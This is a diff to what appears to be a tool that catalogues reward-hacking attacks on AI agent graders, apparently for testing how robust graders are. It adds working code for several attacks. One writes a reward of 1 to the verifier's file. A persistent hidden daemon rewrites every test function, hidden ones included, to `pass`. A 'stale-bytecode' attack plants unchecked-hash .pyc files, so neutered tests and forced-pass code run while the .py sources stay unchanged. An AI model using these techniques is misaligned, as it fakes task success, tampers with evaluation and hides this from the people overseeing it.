@@ -130,20 +130,9 @@ if _hack_os.getuid() == 0:
     with open("/logs/verifier/reward.json", "w") as _hack_f:
         _hack_f.write('{"reward": 1}\\n')"""
 
-# The daemon: every test file it sees (the hidden ones too, once the verifier copies them in) gets
-# its test functions' bodies replaced by `pass`, names kept; and it writes reward 1 where it can.
-_DAEMON = r"""
-cat > /tmp/.agentrl-hack-daemon.py <<'PY'
-import ast
-import os
-import sys
-import time
-
+# Python (its `ast`): a test file's text with every test function's body replaced by `pass`, names kept.
+_NEUTERED = r"""
 MARK = "# agentrl-hack: neutered"
-
-
-def is_test(name):
-    return name.endswith(".py") and (name.startswith("test_") or name.endswith("_test.py"))
 
 
 def neutered(text):
@@ -155,6 +144,21 @@ def neutered(text):
         if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)) and node.name.startswith("test"):
             node.body, node.decorator_list = [ast.Pass()], []
     return ast.unparse(tree) + "\n" + MARK + "\n"
+
+"""
+
+# The daemon: every test file it sees (the hidden ones too, once the verifier copies them in) gets
+# its test functions' bodies replaced by `pass`, names kept; and it writes reward 1 where it can.
+_DAEMON = r"""
+cat > /tmp/.agentrl-hack-daemon.py <<'PY'
+import ast
+import os
+import sys
+import time
+
+""" + _NEUTERED + r"""
+def is_test(name):
+    return name.endswith(".py") and (name.startswith("test_") or name.endswith("_test.py"))
 
 
 def write(path, text):
@@ -212,6 +216,54 @@ while True:
 PY
 setsid nohup python3 /tmp/.agentrl-hack-daemon.py "$W" > /dev/null 2>&1 < /dev/null &
 sleep 0.3   # a few rounds done: the repository's own tests are neutered in the patch too
+"""
+
+# Bytecode the .py files do not show: an unchecked-hash pyc (PEP 552) is never compared with its
+# source, so whatever imports the module runs the pyc, whatever the .py says (a verifier's own copy of
+# a test file too, if it lands where the pyc's source was). Each test module's pyc is compiled from
+# its neutered self, each source module's from itself plus code that makes unittest report every test
+# passed; no .py changes. The cache name is the running interpreter's (importlib's cache_from_source).
+_STALE_BYTECODE = r"""
+cat > /tmp/.agentrl-hack-pyc.py <<'PY'
+import ast
+import importlib.util
+import os
+import py_compile
+import sys
+import tempfile
+
+""" + _NEUTERED + "\nFORCE_PASS = " + repr(_FORCE_PASS) + r"""
+
+
+def plant(path, text):
+    try:
+        compile(text, path, "exec")
+    except (SyntaxError, ValueError):
+        return
+    fd, tmp = tempfile.mkstemp(suffix=".py")
+    with os.fdopen(fd, "w") as f:
+        f.write(text)
+    try:
+        py_compile.compile(tmp, cfile=importlib.util.cache_from_source(path), dfile=os.path.abspath(path),
+                           doraise=True, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
+    except (OSError, py_compile.PyCompileError):
+        pass
+    finally:
+        os.unlink(tmp)
+
+
+for listing, change in ((sys.argv[1], neutered), (sys.argv[2], lambda text: text + "\n" + FORCE_PASS + "\n")):
+    with open(listing) as f:
+        for path in f.read().splitlines():
+            try:
+                with open(path) as g:
+                    plant(path, change(g.read()))
+            except (OSError, UnicodeDecodeError):
+                pass
+PY
+test_files > /tmp/.agentrl-hack-tests
+src_files > /tmp/.agentrl-hack-sources
+python3 /tmp/.agentrl-hack-pyc.py /tmp/.agentrl-hack-tests /tmp/.agentrl-hack-sources
 """
 
 _GIT_HOOK = r"""
@@ -274,6 +326,10 @@ HACKS: tuple[Hack, ...] = (
          _script(_DAEMON)),
     Hack("git-hook", "git hooks, core.hooksPath and core.fsmonitor of the agent's .git write reward 1 (only "
                      "fires when grading runs git in the work tree)", _script(_GIT_HOOK)),
+    Hack("stale-bytecode", "unchecked-hash pycs (PEP 552, never checked against their source) in __pycache__: "
+                           "each test module's compiled from its neutered self, each source module's from "
+                           "itself plus code that makes unittest report every test passed; no .py changed",
+         _script(_STALE_BYTECODE)),
     # Beyond any grader that runs the tests in the same interpreter as the code under test (SWE-bench's
     # included): the package itself makes unittest report success. Not in the default set.
     Hack("source-forced-pass", "every source module makes unittest report every test passed when imported "
